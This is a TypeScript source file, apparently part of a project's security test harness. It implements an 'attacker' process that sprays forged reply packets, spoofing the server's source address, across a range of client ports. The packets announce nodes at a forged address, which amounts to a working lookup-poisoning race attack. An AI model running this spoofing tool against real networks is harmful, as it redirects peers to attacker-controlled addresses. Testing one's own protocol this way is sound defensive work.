/**
 * The attacker, as a program in its host. The first argument is a {@link Spray} as JSON. It sends forged replies with the server's
 * source address to every port that the client may use, as many as possible. A line on its standard input is a JSON list of the nodes
 * to forge from then on, in the order in which their lookups began. When it has sent its first packets, it sends a message over IPC. When
 * its input ends, it prints a {@link SprayResult} as JSON.
 */
import { createInterface } from "node:readline";
import { createCodec, ipFromText } from "../../src/codec/index.ts";
import { addressWords, Frames } from "../abuse/frames.ts";
import { PacketSocket } from "../abuse/packet-socket.ts";
import { nodeId } from "../packets.ts";
import { FORGED, type Spray, type SprayResult } from "./task.ts";

const INTERFACE = "eth0";
/** Frames per system call. */
const BATCH = 128;
/** How long it sends between two looks at the event loop. */
const TURN_MS = 2;

/** Forged replies for some nodes. Each port is tried with all of the nodes before the next port. */
class Sweep {
  readonly #first: number;
  readonly #last: number;
  #port: number;
  #nodes: readonly number[] = [];
  #next = 0;

  constructor([first, last]: Spray["ports"]) {
    this.#first = first;
    this.#last = last;
    this.#port = first;
  }

  set nodes(nodes: readonly number[]) {
    this.#nodes = nodes;
  }

  get empty(): boolean {
    return this.#nodes.length === 0;
  }

  /** Goes on to the next packet. */
  advance(): { readonly node: number; readonly port: number } {
    if (this.#next >= this.#nodes.length) {
      this.#next = 0;
      this.#port = this.#port === this.#last ? this.#first : this.#port + 1;
    }
    return { node: this.#nodes[this.#next++]!, port: this.#port };
  }
}

/** Half of the packets are for the node whose lookup began last, half for the others. */
class Sprayer {
  sent = 0;
  readonly #socket: PacketSocket;
  readonly #frames: Frames;
  /** By node: the number of its payload. */
  readonly #payloads: ReadonlyMap<number, number>;
  readonly #latest: Sweep;
  readonly #others: Sweep;
  #turn = 0;

  constructor({ client, clientMac, server, serverPort, ports, nodes }: Spray) {
    const codec = createCodec({ backend: "ts" });
    const ip = ipFromText(FORGED.ip)!;
    this.#payloads = new Map(nodes.map((node, i) => [node, i]));
    this.#latest = new Sweep(ports);
    this.#others = new Sweep(ports);
    this.target([nodes[0]!]);
    this.#frames = new Frames(BATCH, {
      family: "v4",
      destinationMac: clientMac,
      destination: client,
      sourcePort: serverPort,
      destinationPort: ports[0],
      payloads: nodes.map((n) => codec.encode({ type: "announcement", nodeId: nodeId(n), port: FORGED.port, ip })),
    });
    const [source] = addressWords(server);
    for (let i = 0; i < BATCH; i++) this.#frames.setSource4(i, source!);
    this.#socket = new PacketSocket(INTERFACE, this.#frames);
  }

  /** @param nodes - in the order in which their lookups began; not empty */
  target(nodes: readonly number[]): void {
    this.#latest.nodes = nodes.slice(-1);
    this.#others.nodes = nodes.slice(0, -1);
  }

  send(): void {
    const sweep = this.#turn++ % 2 === 0 || this.#others.empty ? this.#latest : this.#others;
    for (let i = 0; i < BATCH; i++) {
      const { node, port } = sweep.advance();
      this.#frames.setPayload(i, this.#payloads.get(node)!);
      this.#frames.setDestinationPort(i, port);
    }
    this.sent += this.#socket.send(BATCH);
  }
}

const spray: Spray = JSON.parse(process.argv[2]!);
const sprayer = new Sprayer(spray);
let ended = false;
void (async () => {
  for await (const line of createInterface({ input: process.stdin })) {
    const targets: number[] = JSON.parse(line);
    if (targets.length > 0) sprayer.target(targets);
  }
  ended = true;
})();
const start = performance.now();
sprayer.send();
process.send!("sending");
let turn = start;
let now = start;
while (!ended && now < start + spray.maxSeconds * 1_000) {
  sprayer.send();
  if (now - turn > TURN_MS) {
    await new Promise((resolve) => setImmediate(resolve));
    turn = now;
  }
  now = performance.now();
}
const result: SprayResult = { sent: sprayer.sent, seconds: (now - start) / 1_000 };
console.log(JSON.stringify(result));
process.exit(0);
